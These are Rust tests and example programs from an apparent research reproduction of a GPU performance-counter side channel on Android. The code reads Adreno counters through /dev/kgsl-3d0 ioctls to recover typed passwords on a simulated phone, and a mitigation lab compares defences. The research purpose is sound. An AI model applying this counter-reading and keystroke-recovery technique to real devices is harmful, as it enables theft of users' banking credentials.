        (PhoneModel::OnePlus8Pro, KeyboardKind::Swift),
        (PhoneModel::GooglePixel2, KeyboardKind::Gboard),
    ]
    .into_iter()
    .enumerate()
    {
        let cfg = SimConfig {
            device: DeviceConfig::for_phone(phone),
            keyboard,
            system_noise_hz: 0.0,
            ..SimConfig::paper_default(40 + i as u64)
        };
        let mut sim = UiSimulation::new(cfg);
        let mut rng = StdRng::seed_from_u64(40 + i as u64);
        let mut typist = Typist::new(VOLUNTEERS[i % VOLUNTEERS.len()]);
        let plan = typist.type_text("topsecret", SimInstant::from_millis(900), &mut rng);
        let end = plan.end + SimDuration::from_millis(800);
        sim.queue_all(plan.events);

        let service = AttackService::new(store.clone(), ServiceConfig::default());
        let result = service.eavesdrop(&mut sim, end).expect("stock policy");
        assert_eq!(result.model.phone, phone, "device recognition must pick the right phone");
        assert_eq!(result.model.keyboard, keyboard, "and the right keyboard");
        assert_eq!(result.recovered_text, "topsecret");
    }
}

#[test]
fn store_survives_serialisation_and_still_recognizes() {
    let store = multi_store();
    let bytes = store.to_bytes();
    let store = ModelStore::from_bytes(bytes).expect("round trip");

    let cfg = SimConfig {
        device: DeviceConfig::for_phone(PhoneModel::GalaxyS21),
        system_noise_hz: 0.0,
        ..SimConfig::paper_default(50)
    };
    let mut sim = UiSimulation::new(cfg);
    let mut rng = StdRng::seed_from_u64(50);
    let mut typist = Typist::new(VOLUNTEERS[0]);
    let plan = typist.type_text("abcd", SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);

    let service = AttackService::new(store, ServiceConfig::default());
    let result = service.eavesdrop(&mut sim, end).expect("stock policy");
    assert_eq!(result.model.phone, PhoneModel::GalaxyS21);
    assert_eq!(result.recovered_text, "abcd");
}

#[test]
fn per_model_wire_size_is_paper_scale() {
    use gpu_eaves::attack::registry::{encode_model, Quantization};

    let store = multi_store();
    // Stores hold the exact f64 registry tier: the paper's 3.59 kB/model
    // plus ~2 kB of field signatures for the peeling step, all at 8-byte
    // precision — just under 8 kB.
    let avg = store.total_wire_bytes() as f64 / store.len() as f64 / 1024.0;
    assert!((5.0..=9.0).contains(&avg), "average model size {avg:.2} kB out of range");
    // The i16 transport tier is what the paper's size budget is about: it
    // must land at paper scale.
    let i16_total: usize =
        store.handles().iter().map(|h| encode_model(h.model(), Quantization::I16).len()).sum();
    let avg_i16 = i16_total as f64 / store.len() as f64 / 1024.0;
    assert!((2.5..=4.5).contains(&avg_i16), "i16 model size {avg_i16:.2} kB out of range");
}
