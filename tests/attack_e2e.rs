//! End-to-end integration: offline training → victim session → recovery.

use adreno_sim::time::{SimDuration, SimInstant};
use android_ui::sim::{SimConfig, UiSimulation};
use gpu_eaves::attack::offline::{ModelStore, Trainer, TrainerConfig};
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use input_bot::script::Typist;
use input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn trained_store() -> ModelStore {
    let trainer = Trainer::new(TrainerConfig::default());
    let cfg = SimConfig::paper_default(0);
    let model = trainer.train(cfg.device, cfg.keyboard, cfg.app);
    let mut store = ModelStore::new();
    store.add(model);
    store
}

fn type_and_eavesdrop(store: ModelStore, text: &str, seed: u64) -> (String, String) {
    let cfg = SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(seed) };
    let mut sim = UiSimulation::new(cfg);
    let mut rng = StdRng::seed_from_u64(seed);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let plan = typist.type_text(text, SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    sim.queue_all(plan.events);

    let service = AttackService::new(store, ServiceConfig::default());
    let result = service.eavesdrop(&mut sim, end).expect("attack must run on stock policy");
    (result.recovered_text, sim.truth().final_text())
}

#[test]
fn recovers_a_lowercase_credential_exactly() {
    let store = trained_store();
    let (recovered, truth) = type_and_eavesdrop(store, "hunter2password", 42);
    assert_eq!(recovered, truth, "clean-session recovery should be exact");
}

#[test]
fn recovers_mixed_class_credentials() {
    let store = trained_store();
    for (seed, text) in [(1u64, "Passw0rd!"), (2, "abc123XYZ"), (3, "q1w2e3r4")] {
        let (recovered, truth) = type_and_eavesdrop(store.clone(), text, seed);
        let dist = gpu_eaves::attack::metrics::edit_distance(&recovered, &truth);
        assert!(
            dist <= 1,
            "expected near-exact recovery of {text:?}: got {recovered:?} vs {truth:?} (dist {dist})"
        );
    }
}

#[test]
fn training_is_deterministic() {
    let trainer = Trainer::new(TrainerConfig::default());
    let cfg = SimConfig::paper_default(0);
    let a = trainer.train(cfg.device, cfg.keyboard, cfg.app);
    let b = trainer.train(cfg.device, cfg.keyboard, cfg.app);
    assert_eq!(a.to_bytes(), b.to_bytes());
}
