//! Counter discovery and the local-vs-global divide (§3.3, Fig 9–10).
//!
//! Walks the exact path the paper describes: enumerate all performance
//! counters through `GL_AMD_performance_monitor`, select the overdraw
//! group, show that the extension only exposes *local* values, then go
//! through `/dev/kgsl-3d0` ioctls for the *global* ones.
//!
//! ```text
//! cargo run --release --example counter_discovery
//! ```

use adreno_sim::time::SimInstant;
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::kgsl::abi::*;
use gpu_eaves::kgsl::gles;
use gpu_eaves::kgsl::SelinuxDomain;

fn main() {
    // --- Step 1 (§3.3): enumerate counters via the GL extension. ---------
    println!("GetPerfMonitorGroupsAMD:");
    for group in gles::get_perf_monitor_groups() {
        let counters = gles::get_perf_monitor_counters(group);
        println!(
            "  group {:#04x} ({:<3}) — {} countables",
            group.kgsl_id(),
            gles::get_perf_monitor_group_string(group),
            counters.len()
        );
    }

    let selected = gles::discover_overdraw_counters();
    println!("\noverdraw-related counters selected (Table 1):");
    for id in &selected {
        println!(
            "  {:#04x}:{:>2}  {}",
            id.group.kgsl_id(),
            id.countable,
            gles::get_perf_monitor_counter_string(*id).unwrap()
        );
    }

    // --- Step 2: the GL monitor dead end. --------------------------------
    let mut sim = UiSimulation::new(SimConfig::default());
    let monitor = gles::PerfMonitor::begin(std::sync::Arc::clone(sim.device()));
    sim.advance_to(SimInstant::from_millis(600)); // victim renders its UI…
    let local = monitor.end();
    println!(
        "\nGL_AMD_performance_monitor over 600ms of victim activity: {} (local-only!)",
        if local.is_zero() { "all zero" } else { "nonzero?!" }
    );

    // --- Step 3 (Fig 10): the device-file path sees everything. ----------
    let dev = sim.device();
    let fd = dev.open(31337, SelinuxDomain::UntrustedApp).expect("world-accessible");
    for id in &selected {
        let mut get = KgslPerfcounterGet {
            groupid: id.group.kgsl_id(),
            countable: id.countable,
            ..Default::default()
        };
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get))
            .expect("reservation");
    }
    let mut reads: Vec<KgslPerfcounterReadGroup> = selected
        .iter()
        .map(|id| KgslPerfcounterReadGroup::new(id.group.kgsl_id(), id.countable))
        .collect();
    dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads))
        .expect("blockread");
    println!("\nioctl(IOCTL_KGSL_PERFCOUNTER_READ) on the same span:");
    for (id, r) in selected.iter().zip(&reads) {
        println!("  {:<36} = {}", gles::get_perf_monitor_counter_string(*id).unwrap(), r.value);
    }
    println!("\n→ global values from an unprivileged fd: the §4 vulnerability in one screen.");
}
