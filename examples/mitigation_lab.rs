//! Mitigation lab: runs the same credential-theft attempt under every §9
//! defence and prints what each one buys you.
//!
//! ```text
//! cargo run --release --example mitigation_lab
//! ```

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, TargetApp, UiSimulation};
use gpu_eaves::attack::offline::ModelStore;
use gpu_eaves::attack::registry::Registry;
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use gpu_eaves::kgsl::{AccessPolicy, ObfuscationConfig, SelinuxDomain};
use rand::rngs::StdRng;
use rand::SeedableRng;

const SECRET: &str = "Corr3ctHorse";

struct Lab {
    store: ModelStore,
}

impl Lab {
    fn run(&self, name: &str, cfg: SimConfig, policy: Option<AccessPolicy>) {
        let mut sim = UiSimulation::new(cfg);
        if let Some(p) = policy {
            sim.device().set_policy(p);
        }
        let mut rng = StdRng::seed_from_u64(7);
        let mut typist = Typist::new(VOLUNTEERS[1]);
        let plan = typist.type_text(SECRET, SimInstant::from_millis(900), &mut rng);
        let end = plan.end + SimDuration::from_millis(800);
        sim.queue_all(plan.events);

        let service = AttackService::new(self.store.clone(), ServiceConfig::default());
        match service.eavesdrop(&mut sim, end) {
            Ok(result) => {
                let score = result.score(&sim);
                println!(
                    "{name:<34} recovered {:>2}/{} keys  -> {:?}",
                    score.correct_keys, score.total_keys, result.recovered_text
                );
            }
            Err(e) => println!("{name:<34} attack failed: {e}"),
        }
    }
}

fn main() {
    let base = SimConfig::paper_default(0);
    println!("training attacker model ({} / {})…\n", base.device, base.keyboard);
    let registry = Registry::default();
    let mut store = ModelStore::new();
    store.add_handle(registry.get_or_train(base.device, base.keyboard, base.app));
    let lab = Lab { store };

    println!("victim types {SECRET:?}; defences applied one at a time:\n");
    lab.run("no mitigation (stock Android)", SimConfig::paper_default(1), None);
    lab.run(
        "§9.1 popups disabled",
        SimConfig { popups_enabled: false, ..SimConfig::paper_default(2) },
        None,
    );
    lab.run(
        "§9.2 SELinux RBAC (profiler-only)",
        SimConfig::paper_default(3),
        Some(AccessPolicy::role_based([SelinuxDomain::GpuProfiler])),
    );
    lab.run("§9.2 DenyAll", SimConfig::paper_default(4), Some(AccessPolicy::DenyAll));
    for rate in [5.0, 30.0, 90.0] {
        lab.run(
            &format!("§9.3 decoy workloads @{rate}/s"),
            SimConfig {
                obfuscation: Some(ObfuscationConfig::popup_sized(rate)),
                ..SimConfig::paper_default(5)
            },
            None,
        );
    }
    lab.run(
        "§9.3 animated login screen (PNC)",
        SimConfig { app: TargetApp::Pnc, ..SimConfig::paper_default(6) },
        None,
    );
    println!(
        "\n(the paper's conclusion: only access control stops the channel without side effects)"
    );
}
