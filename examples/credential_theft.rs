//! The full attack scenario of Fig 4: a preloaded multi-configuration model
//! store, device recognition, and a realistic victim session with typos,
//! app switches and notifications (§8).
//!
//! ```text
//! cargo run --release --example credential_theft
//! ```

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{
    DeviceConfig, KeyboardKind, PhoneModel, SimConfig, TargetApp, UiSimulation,
};
use gpu_eaves::attack::offline::ModelStore;
use gpu_eaves::attack::registry::Registry;
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::{practical_session, SessionConfig, Typist};
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    // ---- Offline phase: stock the attacking app with models for several
    // device configurations (§7.6: the real app would carry thousands).
    let registry = Registry::default();
    let mut store = ModelStore::new();
    let configs = [
        (PhoneModel::OnePlus8Pro, KeyboardKind::Gboard),
        (PhoneModel::OnePlus8Pro, KeyboardKind::Swift),
        (PhoneModel::GalaxyS21, KeyboardKind::Gboard),
        (PhoneModel::GooglePixel2, KeyboardKind::Gboard),
    ];
    for (phone, keyboard) in configs {
        let device = DeviceConfig::for_phone(phone);
        println!("training {} / {keyboard} …", phone.name());
        store.add_handle(registry.get_or_train(device, keyboard, TargetApp::Chase));
    }
    println!(
        "model store: {} models, {:.1} kB total\n",
        store.len(),
        store.total_wire_bytes() as f64 / 1024.0
    );

    // ---- Online phase: the victim turns out to own a Galaxy S21. The
    // attacker does not know this — device recognition (§3.2) figures it
    // out from the keyboard's base-redraw fingerprint.
    let victim_cfg = SimConfig {
        device: DeviceConfig::for_phone(PhoneModel::GalaxyS21),
        keyboard: KeyboardKind::Gboard,
        ..SimConfig::paper_default(1234)
    };
    let mut victim = UiSimulation::new(victim_cfg);

    // A realistic session: the victim types their credential with a typo
    // (corrected via backspace), checks another app mid-way, then finishes.
    let mut rng = StdRng::seed_from_u64(99);
    let mut typist = Typist::new(VOLUNTEERS[3]);
    let behaviour = SessionConfig {
        correction_prob: 0.12,
        switch_prob: 0.08,
        shade_prob: 0.05,
        away_secs_mean: 2.0,
    };
    let plan = practical_session(
        &mut typist,
        "myS3cretPass",
        SimInstant::from_millis(900),
        &behaviour,
        &mut rng,
    );
    let end = plan.end + SimDuration::from_millis(1_000);
    victim.queue_all(plan.events);

    let service = AttackService::new(store, ServiceConfig::default());
    let result = service.eavesdrop(&mut victim, end).expect("stock policy");

    println!("recognised device : {}", result.model);
    println!("app switches seen : {}", result.switches);
    println!(
        "corrections       : {} deletions detected",
        result
            .corrections
            .iter()
            .filter(|e| matches!(e, gpu_eaves::attack::correction::CorrectionEvent::CharDeleted(_)))
            .count()
    );
    println!("victim submitted  : {:?}", victim.truth().final_text());
    println!("attacker recovered: {:?}", result.recovered_text);
    let score = result.score(&victim);
    println!(
        "score             : {}/{} presses correct, edit distance {}",
        score.correct_keys, score.total_keys, score.edit_distance
    );
}
