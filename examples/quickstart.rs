//! Quickstart: steal one password on a simulated phone in ~30 lines.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use adreno_sim::time::{SimDuration, SimInstant};
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::attack::offline::ModelStore;
use gpu_eaves::attack::registry::Registry;
use gpu_eaves::attack::service::{AttackService, ServiceConfig};
use gpu_eaves::input_bot::script::Typist;
use gpu_eaves::input_bot::timing::VOLUNTEERS;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    // ---- Offline phase (attacker's lab) --------------------------------
    // Train a classifier for the victim's configuration: OnePlus 8 Pro,
    // GBoard, Chase — the paper's headline setup.
    let cfg = SimConfig::paper_default(7);
    println!("training model for {} / {} / {} …", cfg.device, cfg.keyboard, cfg.app);
    let registry = Registry::default();
    let handle = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
    println!(
        "  {} key centroids, C_th = {:.2}, registry blob {} B (digest {})",
        handle.model().centroids().len(),
        handle.model().threshold(),
        handle.encoded_len(),
        handle.digest().short()
    );
    let mut store = ModelStore::new();
    store.add_handle(handle);

    // ---- Online phase (victim's device) --------------------------------
    // The victim opens the banking app and types their password.
    let mut victim = UiSimulation::new(cfg);
    let password = "hunter2passw0rd";
    let mut rng = StdRng::seed_from_u64(42);
    let mut typist = Typist::new(VOLUNTEERS[1]);
    let plan = typist.type_text(password, SimInstant::from_millis(900), &mut rng);
    let end = plan.end + SimDuration::from_millis(800);
    victim.queue_all(plan.events);

    // The attacking app samples GPU counters through /dev/kgsl-3d0 and
    // runs Algorithm 1 over the observed changes.
    let service = AttackService::new(store, ServiceConfig::default());
    let result = service.eavesdrop(&mut victim, end).expect("stock Android allows counter reads");

    println!("victim typed : {:?}", victim.truth().final_text());
    println!("recovered    : {:?}", result.recovered_text);
    println!(
        "stats        : {} direct, {} split-recovered, {} duplicates suppressed, {} noise",
        result.stats.direct,
        result.stats.splits_recovered,
        result.stats.duplications_suppressed,
        result.stats.noise
    );
    let score = result.score(&victim);
    println!(
        "accuracy     : {}/{} keys, exact = {}",
        score.correct_keys, score.total_keys, score.text_exact
    );
}
