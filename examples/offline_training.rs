//! Offline-phase walkthrough (§3.2, §6): train a model, inspect what it
//! learned, serialise it, and probe its classification geometry.
//!
//! ```text
//! cargo run --release --example offline_training
//! ```

use adreno_sim::counters::TrackedCounter;
use gpu_eaves::android_ui::SimConfig;
use gpu_eaves::attack::offline::ModelStore;
use gpu_eaves::attack::registry::{Quantization, Registry};
use gpu_eaves::attack::ClassifierModel;

fn main() {
    let cfg = SimConfig::paper_default(0);
    println!("offline phase: emulating every key on {} / {} …", cfg.device, cfg.keyboard);
    let registry = Registry::default();
    let handle = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
    let model = handle.model();

    println!("\ntrained model for: {}", model.meta());
    println!("  centroids      : {}", model.centroids().len());
    println!("  C_th           : {:.3}", model.threshold());
    println!("  switch thresh. : {} (counter units)", model.switch_threshold());
    println!(
        "  field sigs     : {} (input lengths x cursor states)",
        model.ambient_signatures().len()
    );

    // Which counters carry the per-key signal? The whitening weights are
    // the inverse inter-centroid spreads: the most discriminative counters
    // get the *smallest* spreads and thus the largest weights.
    println!("\nper-counter whitening weights (higher = more trusted):");
    let mut weighted: Vec<(TrackedCounter, f64)> = adreno_sim::counters::ALL_TRACKED
        .into_iter()
        .map(|c| (c, model.weights()[c.index()]))
        .collect();
    weighted.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap());
    for (c, w) in weighted {
        println!("  {:<36} {w:.6}", c.name());
    }

    // The hardest keys: closest centroid pairs.
    let mut pairs: Vec<(f64, char, char)> = Vec::new();
    for (i, a) in model.centroids().iter().enumerate() {
        for b in model.centroids().iter().skip(i + 1) {
            pairs.push((model.distance(&a.values, &b.values), a.ch, b.ch));
        }
    }
    pairs.sort_by(|x, y| x.0.partial_cmp(&y.0).unwrap());
    println!("\nhardest key pairs (closest in whitened counter space):");
    for (d, a, b) in pairs.iter().take(8) {
        println!("  {a:?} vs {b:?}  distance {d:.3}");
    }

    // Wire format round trip.
    let bytes = model.to_bytes();
    println!(
        "\nserialised model: {} bytes ({:.2} kB; paper reports 3.59 kB)",
        bytes.len(),
        bytes.len() as f64 / 1024.0
    );
    let restored = ClassifierModel::from_bytes(bytes).expect("round trip");
    assert_eq!(restored.centroids(), model.centroids());

    // The registry's content-addressed GPMR encoding, per quantization tier.
    println!("\nregistry (GPMR) encoding — digest {}:", handle.digest().short());
    for q in Quantization::ALL {
        let blob = gpu_eaves::attack::registry::encode_model(model, q);
        println!("  {:<3} tier: {} bytes", q.name(), blob.len());
    }

    let mut store = ModelStore::new();
    store.add_handle(handle.clone());
    println!(
        "a 3,000-model store would be {:.1} MB (paper: <=13.40 MB)",
        store.total_wire_bytes() as f64 * 3_000.0 / store.len() as f64 / (1024.0 * 1024.0)
    );
}
