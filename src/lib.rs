//! # gpu-eaves — umbrella crate for the ASPLOS'22 GPU side-channel reproduction
//!
//! Re-exports the workspace crates under one roof so examples and integration
//! tests can `use gpu_eaves::...`. See the individual crates for details:
//!
//! * [`adreno_sim`] — tile-based GPU simulator with LRZ/RAS/VPC counters.
//! * [`kgsl`] — the `/dev/kgsl-3d0` device-file façade and §9 mitigations.
//! * [`android_ui`] — compositor, keyboards, popups and target-app scenes.
//! * [`input_bot`] — human typing models and scripted user sessions.
//! * [`attack`] (crate `gpu-sc-attack`) — the paper's attack end to end.
//! * [`baseline`] — the coarse GPU-workload comparison attack (Table 2).
//! * [`wire`] — the exfiltration wire protocol and split-session driver.
//! * [`minipool`] — the scoped worker pool and cooperative ring run queue
//!   the fleet orchestrator schedules sessions on.

pub use adreno_sim;
pub use android_ui;
pub use baseline;
pub use gpu_sc_attack as attack;
pub use input_bot;
pub use kgsl;
pub use minipool;
pub use wire;
